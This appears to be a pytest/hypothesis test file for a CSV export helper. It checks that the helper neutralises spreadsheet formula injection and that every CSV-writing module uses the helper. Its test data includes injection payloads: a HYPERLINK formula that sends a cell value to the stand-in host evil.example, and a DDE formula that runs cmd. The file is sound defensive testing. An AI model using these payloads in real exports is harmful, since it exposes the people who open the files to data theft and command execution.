"""CSV exports cannot carry spreadsheet formulas: every text cell starting with = + - @ TAB or CR gets a leading
quote, the rest reads back unchanged, and no module writes CSV without going through engine.csv_safety."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.csv_safety import FORMULA_STARTS, csv_cell, csv_lines, write_csv

ROOT = Path(__file__).resolve().parents[2]
WRITES_CSV = re.compile(r"csv\.writer|csv\.DictWriter|DictWriter\(|text/csv")

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2;"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
CELLS = st.one_of(
    st.text(max_size=30), st.sampled_from(FORMULAS), st.sampled_from(FORMULA_STARTS).map(lambda c: c + "1")
)


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_cell_is_written_as_quoted_text(formula: str) -> None:
    assert read_back("".join(csv_lines(["name"], [[formula]]))) == [["name"], [f"'{formula}"]]


def test_numbers_are_written_as_numbers_and_none_as_an_empty_cell() -> None:
    assert [csv_cell(v) for v in (-12.5, -3, 0, None, True)] == ["-12.5", "-3", "0", "", "True"]


def test_text_that_only_looks_like_a_negative_number_is_still_escaped() -> None:
    """A negative amount a customer typed is text; the program writing it knows whether it is a number."""
    assert csv_cell("-12.5") == "'-12.5"


@settings(max_examples=300, deadline=None)
@given(text=CELLS)
def test_no_cell_starts_like_a_formula_and_only_a_quote_is_ever_added(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == (f"'{text}" if text.startswith(FORMULA_STARTS) else text)


@settings(max_examples=150, deadline=None)
@given(header=st.lists(CELLS, min_size=1, max_size=4), rows=st.lists(st.lists(CELLS, max_size=4), max_size=5))
def test_a_written_file_reads_back_cell_for_cell_with_formulas_neutralised(
    header: list[str], rows: list[list[str]]
) -> None:
    out = io.StringIO(newline="")
    assert write_csv(out, header, rows) == len(rows)
    expected = [[csv_cell(cell) for cell in row] for row in [header, *rows]]
    assert read_back(out.getvalue()) == expected


# --- every CSV export goes through the helper ---------------------------------------------------------------------
def csv_writers_without_the_helper(root: Path) -> list[str]:
    """Modules under api/, engine/ and graph/ that write CSV but never import engine.csv_safety."""
    found = []
    for folder in ("api", "engine", "graph"):
        for path in sorted((root / folder).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            if path.name != "csv_safety.py" and WRITES_CSV.search(text) and "csv_safety" not in text:
                found.append(str(path.relative_to(root)))
    return found


def test_every_csv_export_escapes_formulas_through_the_shared_helper() -> None:
    assert csv_writers_without_the_helper(ROOT) == []


def test_the_export_check_flags_a_module_writing_csv_by_hand(tmp_path: Path) -> None:
    (tmp_path / "api" / "routes").mkdir(parents=True)
    (tmp_path / "engine").mkdir()
    (tmp_path / "graph").mkdir()
    (tmp_path / "api" / "routes" / "export.py").write_text("import csv\nwriter = csv.writer(out)\n")
    (tmp_path / "engine" / "report.py").write_text('MEDIA = "text/csv"\nfrom engine.csv_safety import csv_lines\n')
    assert csv_writers_without_the_helper(tmp_path) == ["api/routes/export.py"]
